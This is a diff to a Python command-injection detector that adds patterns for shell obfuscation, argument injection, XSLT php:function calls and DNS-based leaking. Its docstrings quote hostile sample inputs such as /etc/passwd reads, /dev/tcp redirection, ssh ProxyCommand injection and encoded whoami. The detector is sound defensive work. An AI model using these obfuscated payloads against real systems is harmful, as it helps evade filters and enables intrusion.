@@ -15,6 +15,10 @@ and ``sh -c`` with a command.
 A whole value that is one command line with no separator before it (``uname -a``, ``sleep 5``,
 ``cscli alerts list``) is judged by ``commands.bare_command``: recon tools, and common tools only in their
 probing form.
+
+Some shapes spell a command or its arguments so that they appear only once the shell has read them
+(``${HOME:0:1}`` for ``/``, ``xxd -r -p <<< 2f…``, ``$'\\151\\144'``, ``\\n`` written for a line break) or reach a
+command without a separator (an option such as ``--upload-pack=…``, XSLT's ``php:function``): ``_spelled_by_shell``.
 """
 
 from __future__ import annotations
@@ -57,6 +61,10 @@ _REDIRECT_TO_PATH = re.compile(r"[^;|&\n<>]{0,80}?\d?>>?\s*[/~$]")
 """Arguments, then output redirected to a file (``echo x>/tmp/x``, ``id > /dev/tcp/…``)."""
 _GLOB_COMMAND = re.compile(r"(?=/[^\s;|&]*[?*])/(?:[\w?*\[\]]+/)++[\w?*\[\]]+(?=[\s;|&)`]|$)")
 """A command path spelled with wildcards (``/???/??t``, ``/bin/c?t``): the shell expands it to a binary."""
+_WINDOWS_GLOB_COMMAND = re.compile(
+    r"(?=[a-z]:(?:\\[\w?*]+)*?\\\w*[?*][\w?*]*\\)[a-z]:(?:\\[\w?*]+)+\.?[\w?*]*(?=[\s;|&)`]|$)", re.I)
+"""A Windows command path spelled with wildcards in its folders (``C:\\W*\\S*32\\c?lc.e?e``): PowerShell expands it to
+a binary. A search pattern names its folders and puts the wildcard in the file name (``C:\\Logs\\*.txt``)."""
 _CARET = re.compile(r"(?<=[a-z])\^(?=[a-z])", re.I)
 _CMD_SUBSTRING = re.compile(r"%[a-z_]\w*:~-?\d+(?:,-?\d+)?%", re.I)
 """cmd.exe's substring of an environment variable (``%ProgramFiles:~10,1%``, the space in "Program Files"): a way to
@@ -66,6 +74,8 @@ _PIPE_TO_SHELL_ITSELF = re.compile(r"\|\s*\$(?:0|\{0\})\s*$")
 """cmd.exe's escape character inside a word: ``w^h^o^a^m^i`` runs ``whoami``."""
 _HTML_ENTITY = re.compile(r"&([a-z][a-z0-9]{1,31};)", re.I)
 _IFS = re.compile(r"\$\{IFS\}|\$IFS(?:\$\d)?|\{,?\}|\$\{[a-z]*\}(?=[a-z])", re.I)
+_GLUED_VAR = re.compile(r"(?<=[a-z/])\$\{[a-z_][a-z0-9_]*\}(?=[a-z])")
+"""A braced variable inside a word (``c${u}at``, ``/e${x}tc``): unset, it joins the word's two halves."""
 _UNSET_VAR = re.compile(r"(?<=[a-z])\$(?:[a-z_]\w*(?=[\s/;|&]|$)|[@*])", re.I)
 """A variable glued to a word (``cat$u /etc$u/passwd``, ``who$@ami``): unset or empty, it expands to nothing and
 joins the word."""
@@ -86,7 +96,14 @@ _VAR_RUN = re.compile(
 """``CMD=$'id';$CMD``, ``X=$'uname\\x20-a'&&$X``: a variable set to a command line, then expanded in command
 position, which runs it. Bash's ``$'…'`` quoting spells characters as ``\\xHH``, which are read first."""
 _ANSI_C_HEX = re.compile(r"\$'[^'\n]{0,200}'")
-_HEX_ESCAPE = re.compile(r"\\x([0-9a-f]{2})", re.I)
+_HEX_ESCAPE = re.compile(r"\\(?:x([0-9a-f]{2})|([0-3][0-7]{2}))", re.I)
+"""``\\x69`` or ``\\151``: a character in bash's ``$'…'`` quoting, by hex or octal code."""
+
+
+def _escaped_char(m: re.Match[str]) -> str:
+    return chr(int(m.group(1), 16)) if m.group(1) else chr(int(m.group(2), 8))
+
+
 _SSH_OPTION = re.compile(r"^\s*['\"]?-o\s*['\"]?(?:ProxyCommand|LocalCommand|PermitLocalCommand)\s*=", re.I)
 """``-oProxyCommand="touch /tmp/x"`` as the whole value: an ssh option that runs a command, injected as an argument
 where an application passes a field to ``ssh``, ``scp``, ``rsync -e`` or ``git``
@@ -166,11 +183,12 @@ def _is_snippet(text: str) -> bool:
 def normalize(value: str) -> str:
     """Undo shell obfuscation: ``${IFS}`` as a space, brace lists (``{cat,/etc/passwd}``) as words,
     ``w'h'o"am"i`` and ``wh\\oami`` as ``whoami``, bash's ``$'…\\x20…'`` escapes as their characters."""
-    if "$'" in value and "\\x" in value:
-        value = _ANSI_C_HEX.sub(lambda m: _HEX_ESCAPE.sub(lambda h: chr(int(h.group(1), 16)), m.group()), value)
+    if "$'" in value and "\\" in value:
+        value = _ANSI_C_HEX.sub(lambda m: _HEX_ESCAPE.sub(_escaped_char, m.group()), value)
     if "$" in value or "{" in value:
         if "{" in value and "," in value:
             value = _BRACE_QUOTED.sub(lambda m: _BRACE_NOISE.sub("", m.group()), value)
+        value = _GLUED_VAR.sub("", value)
         value = _IFS.sub(" ", value)
         value = _UNSET_VAR.sub("", value)
         value = _BRACE_LIST.sub(lambda m: m.group(1).replace(",", " "), value)
@@ -199,6 +217,8 @@ def _command_at(value: str, pos: int, sep: str, strong_only: bool = False) -> bo
     if pos >= len(value) or not (value[pos].isalpha() or value[pos] in "/."):
         return False
     if not strong_only and value[pos] == "/" and _GLOB_COMMAND.match(value, pos):
+        return True
+    if not strong_only and value[pos + 1 : pos + 3] == ":\\" and _WINDOWS_GLOB_COMMAND.match(value, pos):
         return True
     m = _WORD.match(value, pos)
     if not m:
@@ -340,9 +360,19 @@ def _quote_then_tool(text: str) -> bool:
 
 
 def _wrapped(text: str, pos: int) -> bool:
-    """At the start of a command line, a wrapper (``time``, ``nohup``, ``flock x`` …) that runs an unambiguous tool."""
+    """At the start of a command line, a wrapper (``time``, ``nohup``, ``flock x`` …) that runs an unambiguous tool,
+    or a probe in the form ``commands.bare_command`` knows, whatever redirection or ``&`` follows it
+    (``nohup sleep 30 >/dev/null 2>&1 &``). ``nohup python app.py > app.log &`` runs a program, not a probe."""
     m = _WRAPPER.match(text, pos)
-    return m is not None and _command_at(text, m.end(), ";", strong_only=True)
+    if m is None:
+        return False
+    if _command_at(text, m.end(), ";", strong_only=True):
+        return True
+    line = _UP_TO_REDIRECTION.match(text, m.end())
+    return line is not None and bare_command(line.group())
+
+
+_UP_TO_REDIRECTION = re.compile(r"[^;|&<>\n]+?(?=\s+\d?[<>]|\s*[;|&<>\n]|\s*$)")
 
 
 _OTHER_RUNTIMES = re.compile(
@@ -412,6 +442,106 @@ one's own echo, or decoding a constant to the screen, has no other use (document
 _REDIRECT_ONLY = re.compile(r"\s*\d?>>?/(?:[\w.-]+/)*[\w.-]*[a-z][\w.-]*\s*", re.I)
 """A whole value that is a shell redirection to a file (``>/tmp/x``, ``>>/var/www/html/s.php``): run by a shell it
 creates or truncates that file. Markdown quotes with ``> `` and a space; a bare ``>/tmp`` names no file."""
+
+
+_ESCAPED_EOL = re.compile(r"(?<!\\)\\[nr]")
+_TERMINAL_ESCAPE = re.compile(r"(?:\\(?:033|x1b|e|u001b)|\x1b)\[[\d;]*[a-z]", re.I)
+"""A line break written as the two characters ``\\n`` (what ``echo -e``, ``printf``, a log formatter or a JSON
+string turned back into text makes of it), and a terminal escape spelled the same way (``\\033[2A``, the cursor
+moved up over the lines before, so that a terminal hides them)."""
+_EOL_AROUND = re.compile(r"^\s*(?:\\[nr])+|(?:\\[nr])+\s*$")
+"""The value opens or ends with an escaped line break (``\\nid\\n``, ``;uname -a\\n``): a line of its own is what
+it asks for. Text with escaped line breaks inside (``printf("%d\\n", n)``, ``line1\\nline2``) does not."""
+_SUBSTRING_CHAR = re.compile(r"\$\{[a-z_]\w*:\s*\d*\s*:\s*1\s*\}", re.I)
+"""One character of a variable (``${HOME:0:1}``, ``${PATH:5:1}``): a way to write ``/`` or a letter without typing
+it. A build step's ``${GIT_SHA:0:7}`` takes a prefix, not a character."""
+_PATTERN_DELETE = re.compile(r"(?<!\")\$\{[a-z_]\w*//?(?:[^}\\/\n]|\\.){1,60}/\}", re.I)
+"""A variable with a pattern removed (``${p//junk/}``): text spelled with filler the shell takes out again. A script
+quotes the variable it edits (``mv "$f" "${f/.bak/}"``)."""
+_DECODER = (r"(?:(?:xxd\s+(?:-\w+\s+)*-[a-z]*r[a-z]*|base(?:64|32)\s+(?:-\w+\s+)*(?:-d|--decode|-D)\b)"
+            r"(?:\s+-\w+)*|rev"
+            r"|tr\s+(?:-\w+\s+)*(?:'[^'\n]*'|\"[^\"\n]*\"|\S+)\s+(?:'[^'\n]*'|\"[^\"\n]*\"|\S+))")
+_DECODED_LITERAL = re.compile(
+    rf"(?<![\w-])(?P<dec>{_DECODER})\s*(?:<<<\s*['\"]?(?P<lit>(?![$`'\"])[^\s'\"]+)"
+    rf"|<\(\s*(?:echo|printf)\s+(?:-\w+\s+)*['\"]?(?![$`])[^\s'\")]+)"
+    rf"|(?:\$\(|`)\s*(?:echo|printf)\s+(?:-\w+\s+)*(['\"]?)(?![$`])[^\s'\"|)`]+\3\s*\|\s*{_DECODER}",
+    re.I,
+)
+"""A constant decoded, reversed or translated by the shell (``xxd -r -p <<< 2f6574…``, ``tr '!-0' '"-1' <<< .``,
+``$(echo . | tr …)``, ``base64 -d <(echo …)``): the text a command runs on is kept out of the request. Documentation
+decodes a variable or a command's output (``base64 -d <<< "$TOKEN"``, ``… | base64 -d``), and ``tr a-z A-Z <<< hello``
+changes a word's case."""
+_LOOP_LOOKUP = re.compile(
+    r"\bfor\s+(\w+)\s+in\s+(?:\$\(|`)[^)`\n]{1,80}[)`]\s*;?\s*do\b[^\n]{0,80}?(?<![\w-])"
+    r"(?:host|nslookup|dig|ping|curl|wget)\s+(?:-\S+\s+)*['\"]?(?:https?://)?\$\{?\1\}?\.[\w-]+\.", re.I)
+"""A loop over a command's output that looks each line up as a host name (``for f in $(ls /); do host
+"$f.x.example"; done``): the output leaves through DNS, one label at a time."""
+_ANSI_C_ONLY_ESCAPES = re.compile(r"(?:^|(?<=[\s;|&`(]))\$'((?:\\(?:x[0-9a-f]{2}|[0-3][0-7]{2})){2,})'", re.I)
+"""A word in bash's ``$'…'`` quoting made only of character codes (``$'\\167\\150\\157…'``): a command name or line
+spelled so that no letter of it appears."""
+_OPTION_RUNS_COMMAND = re.compile(
+    r"^\s*['\"]?(?:--(?:upload-pack|receive-pack|exec|checkpoint-action\s*=\s*exec|use-compress-program|to-command"
+    r"|rsh|rsync-path|ssh-command|config\s*=?\s*['\"]?core\.(?:sshcommand|gitproxy|pager|editor|fsmonitor))"
+    r"|-c\s*['\"]?core\.(?:sshcommand|gitproxy|pager|editor|fsmonitor))\s*=\s*['\"]?\S", re.I)
+"""A whole value that is an option making the program it is passed to run a command (argument injection): git's
+``--upload-pack=…`` and ``-c core.sshCommand=…``, tar's ``--checkpoint-action=exec=…``, ``--use-compress-program``
+and ``--to-command``, rsync's ``--rsh``/``--rsync-path``. No API field starts with one of these as data."""
+_FILE_SUBSTITUTION = re.compile(r"\$\(\s*<\s*['\"]?[/~][^)\s]*\s*\)")
+"""Bash's ``$(</path)``: a file's content read into the command line, no ``cat`` needed (``echo $(</etc/hostname)``).
+Scripts that use it read their own relative files (``$(<VERSION)``)."""
+_CONTINUED_WORD = re.compile(r"[^\s\\]\\\r?\n[^\s]")
+"""A backslash-newline inside a word (``/et\\<newline>c/pa\\<newline>sswd``): the shell joins the lines, a reader
+does not. A continued command line breaks between words (``docker run \\<newline>  -p 80:80``)."""
+_XSLT_PHP = re.compile(
+    r"php:function\s*\(\s*['\"](?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|eval"
+    r"|create_function|call_user_func)['\"]", re.I)
+"""An XSLT stylesheet calling a PHP function that runs a command or code (``php:function('passthru', 'id')``):
+``XSLTProcessor::registerPHPFunctions`` makes any ``php:function`` in a supplied stylesheet a call."""
+
+
+def _starts_with_tool(text: str) -> str:
+    """The tool a value opens with (a known command followed by a space), or ``""``."""
+    m = _WORD.match(text.lstrip())
+    if m is None or text.lstrip()[m.end() : m.end() + 1] not in (" ", "\t"):
+        return ""
+    word = m.group(1).lower()
+    return word if word in STRONG or word in WEAK or word in TOOL_NAMES else ""
+
+
+def _spelled_by_shell(value: str) -> tuple[int, int] | None:
+    """Commands and arguments the shell builds from something else, which the separator scan cannot see: one character
+    of a variable, a variable with filler removed, a decoded constant, a word split by backslash-newline, a file read by
+    ``$(</path)``, a loop that sends output through DNS, a command spelled in ``$'…'`` codes; also code that runs
+    one without a shell separator (XSLT's ``php:function``) and argument injection (``--upload-pack=…``)."""
+    if "${" in value:
+        for m in _SUBSTRING_CHAR.finditer(value):
+            glued = value[m.start() - 1 : m.start()].isalnum() or value[m.end() : m.end() + 1].isalnum()
+            glued = glued or "/" in value[m.start() - 1 : m.start()] + value[m.end() : m.end() + 1]
+            if glued or (value[m.start() - 1 : m.start()] != '"' and _starts_with_tool(value)):
+                return m.start(), m.end()
+        if (tool := _starts_with_tool(value)) and tool not in {"echo", "printf"}:
+            if found := _PATTERN_DELETE.search(value):
+                return found.start(), found.end()
+    if "<<<" in value or "<(" in value or (("$(" in value or "`" in value) and "|" in value):
+        for m in _DECODED_LITERAL.finditer(value):
+            if not (m.group("lit") and m.group("dec").lower().startswith("tr") and m.group("lit").isalpha()):
+                return m.start(), m.end()
+    if "\\\n" in value or "\\\r\n" in value:
+        if _starts_with_tool(value) and (continued := _CONTINUED_WORD.search(value)):
+            return continued.start(), continued.end()
+    if "$(" in value and (read := _FILE_SUBSTITUTION.search(value)):
+        return read.start(), read.end()
+    if "for " in value and " do" in value and "$" in value and (loop := _LOOP_LOOKUP.search(value)):
+        return loop.start(), loop.end()
+    if "php:" in value and (xslt := _XSLT_PHP.search(value)):
+        return xslt.start(), xslt.end()
+    if "$'\\" in value:
+        for m in _ANSI_C_ONLY_ESCAPES.finditer(value):
+            if _command_at(_HEX_ESCAPE.sub(_escaped_char, m.group(1)) + " ", 0, ";"):
+                return m.start(), m.end()
+    if value.lstrip(" '\"")[:1] == "-" and (option := _OPTION_RUNS_COMMAND.match(value)):
+        return option.start(), option.end()
+    return None
 
 
 _EMPTY_EXPANSIONS = ("$@", "$*", "$()", "${}", "``")
@@ -508,8 +638,12 @@ def _split_command(value: str) -> bool:
 
 def is_cmdi(value: str) -> tuple[int, int] | None:
     """The span to report when ``value`` would run a command if passed to a shell."""
+    if "\\" in value and _EOL_AROUND.search(value):  # read "\\n" as the line break it stands for, everywhere
+        value = _TERMINAL_ESCAPE.sub("", _ESCAPED_EOL.sub("\n", value))
     if "<<<" in value and (here := _SHELL_HERE_STRING.search(value)):
         return here.start(), min(len(value), here.end() + 32)
+    if spelled := _spelled_by_shell(value):
+        return spelled
     if ("child_process" in value or "process" in value) and (node := _NODE_SHELL.search(value)):
         return node.start(), node.end()
     if ("untime" in value or "rocessBuilder" in value or "reemarker" in value) and (java := _JAVA_EXEC.search(value)):
@@ -551,8 +685,9 @@ def is_cmdi(value: str) -> tuple[int, int] | None:
         return nested
     if _wrapped(text, 0) or _strong_then_separator(text) or _quote_then_tool(text):
         return 0, min(len(text), 48)
-    if bare_command(text):
-        return 0, min(len(text), 48)  # the whole value is a command line: "uname -a", "cscli alerts list"
+    if bare_command(text) or (text.rstrip()[-1:] in (";", "|", "&") and bare_command(text.rstrip(" \t;|&"))):
+        return 0, min(len(text), 48)  # the whole value is a command line: "uname -a", "cscli alerts list";
+        # one that hands over to what follows it or goes to the background is one too: "uname -a;", "sleep 9 &"
     for m in _SEP.finditer(text):
         sep = m.group(1)
         if sep == "`":
@@ -579,8 +714,8 @@ def is_cmdi(value: str) -> tuple[int, int] | None:
             if not word or not _SHELLISH_ARG.match(text, word.end()):
                 continue
         at = m.end()
-        while at < len(text) and text[at] in "( \t":
-            at += 1  # a subshell: &&(sh)0>…
+        while at < len(text) and text[at] in "( \t+":
+            at += 1  # a subshell: &&(sh)0>…; a "+" that a form encoder made of a space: &&+|+dir c:\\
         if sep != "&" and _wrapped(text, at):
             return m.start(), min(len(text), at + 32)
         block = "\n" in m.group() and _in_indented_block(text, m.end())
